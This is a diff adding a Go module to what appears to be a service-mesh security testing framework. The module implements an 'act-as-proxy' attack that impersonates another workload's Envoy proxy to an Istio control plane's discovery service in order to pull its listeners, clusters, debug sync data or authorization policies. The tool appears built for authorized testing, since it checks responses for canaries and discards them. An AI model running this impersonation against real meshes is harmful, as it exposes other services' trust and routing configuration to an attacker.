@@ -1,0 +1,138 @@
+package attacks
+
+import (
+	"context"
+	"errors"
+	"fmt"
+
+	"github.com/meshbreach/meshbreach/attacker"
+)
+
+// Asks is a kind of configuration that proxies ask for.
+type Asks string
+
+// What can be asked for.
+const (
+	AskListeners Asks = "listeners"
+	AskClusters  Asks = "clusters"
+	AskDebug     Asks = "debug" // the synchronisation of all proxies
+	AskPolicies  Asks = "policies"
+)
+
+// ActAsProxy has the parameters of act-as-proxy.
+type ActAsProxy struct {
+	// Door is xds (default) or xds-plaintext.
+	Door Door `json:"door,omitempty" jsonschema:"enum=xds,enum=xds-plaintext,default=xds"`
+	// As is the cast member whose proxy it says it is.
+	As string `json:"as"`
+	// NoAccount leaves out of which account the proxy says it is.
+	NoAccount bool `json:"noAccount,omitempty"`
+	// Ask is listeners (default), clusters, debug or policies.
+	Ask Asks `json:"ask,omitempty" jsonschema:"enum=listeners,enum=clusters,enum=debug,enum=policies,default=listeners"`
+	// Token is the credential, sent as a bearer token.
+	Token *attacker.Token `json:"token,omitempty"`
+	// Leaf is the credential, presented as a client certificate.
+	Leaf *attacker.Leaf `json:"leaf,omitempty"`
+}
+
+// Holds asks for the credentials.
+func (p *ActAsProxy) Holds() ([]*attacker.Leaf, []*attacker.Token) {
+	return leaves(p.Leaf), tokens(p.Token)
+}
+
+// Check refuses parameters that contradict each other.
+func (p *ActAsProxy) Check() error {
+	return errors.Join(
+		oneOf("door", p.Door, DoorXDS, DoorXDSPlaintext),
+		oneOf("ask", p.Ask, AskListeners, AskClusters, AskDebug, AskPolicies),
+		refuse(p.As == "", "as: a proxy says whose it is"),
+		refuse(p.Door == DoorXDSPlaintext && p.Leaf != nil, "without TLS no leaf can be shown"),
+		refuse(p.Leaf != nil && p.Leaf.Of == "", "leaf: a credential is of somebody"),
+		checkTokens(p.Token),
+	)
+}
+
+func actAsProxy() attacker.Attack {
+	return attacker.New("act-as-proxy", "Ask for configuration as another's proxy",
+		`Opens the stream by which proxies get their configuration (ADS) and says that
+it is somebody's proxy: with a credential of its own, of another, or without
+any. A control plane that believes the name in the request tells the attacker
+whom the other one trusts, what it calls and by which rules. The answer is
+searched for what only that proxy's configuration has, and is thrown away.`,
+		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p ActAsProxy, emit func(attacker.Observation)) error {
+			call, err := p.procedure(nonce(), t)
+			if err != nil {
+				return err
+			}
+			emit(f.SearchStream(ctx, call, t.Canaries))
+			return nil
+		})
+}
+
+// procedure is one request of the stream, of which the client's half then ends:
+// what was asked for is answered, and the stream with it.
+func (p ActAsProxy) procedure(nonce string, t attacker.Target) (attacker.Procedure, error) {
+	door := p.Door
+	if door == "" {
+		door = DoorXDS
+	}
+	at, err := behind(t, door)
+	if err != nil {
+		return attacker.Procedure{}, err
+	}
+	token, err := bearer(p.Token)
+	if err != nil {
+		return attacker.Procedure{}, err
+	}
+	message, err := p.message(t)
+	if err != nil {
+		return attacker.Procedure{}, err
+	}
+	call := attacker.Procedure{
+		Nonce: nonce, Address: at, Message: message, Metadata: map[string][]string{},
+		Method: "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources",
+	}
+	if token != "" {
+		call.Metadata["authorization"] = []string{"Bearer " + token}
+	}
+	if door == DoorXDS {
+		call.TLS = &attacker.TLS{ServerName: t.Authority.ServerName, ALPN: []string{"h2"}}
+		if p.Leaf != nil {
+			call.TLS.Leaf = p.Leaf.Held
+		}
+	}
+	return call, nil
+}
+
+// message is an envoy.service.discovery.v3.DiscoveryRequest of everything of
+// one type, with the node as a pilot-agent fills it in.
+func (p ActAsProxy) message(t attacker.Target) ([]byte, error) {
+	id := t.Authority.Nodes[p.As]
+	namespace, account, known := cutAccount(t, p.As)
+	if id == "" || !known {
+		return nil, fmt.Errorf("nobody knows the proxy of %q", p.As)
+	}
+	metadata := [][2]string{{"NAMESPACE", namespace}, {"CLUSTER_ID", t.Authority.Cluster}}
+	if !p.NoAccount {
+		metadata = append(metadata, [2]string{"SERVICE_ACCOUNT", account})
+	}
+	kind, name := "type.googleapis.com/envoy.config.listener.v3.Listener", ""
+	switch p.Ask {
+	case AskClusters:
+		kind = "type.googleapis.com/envoy.config.cluster.v3.Cluster"
+	case AskDebug:
+		kind, name = "istio.io/debug", "syncz"
+	case AskPolicies:
+		kind = "security.istio.io/v1/AuthorizationPolicy"
+		metadata = append(metadata, [2]string{"GENERATOR", "api"})
+	}
+	var fields []byte
+	for _, m := range metadata {
+		fields = text(fields, 1, string(text(text(nil, 1, m[0]), 2, string(text(nil, 3, m[1])))))
+	}
+	request := text(nil, 2, string(text(text(nil, 1, id), 3, string(fields))))
+	if name != "" {
+		request = text(request, 3, name)
+	}
+	return text(request, 4, kind), nil
+}
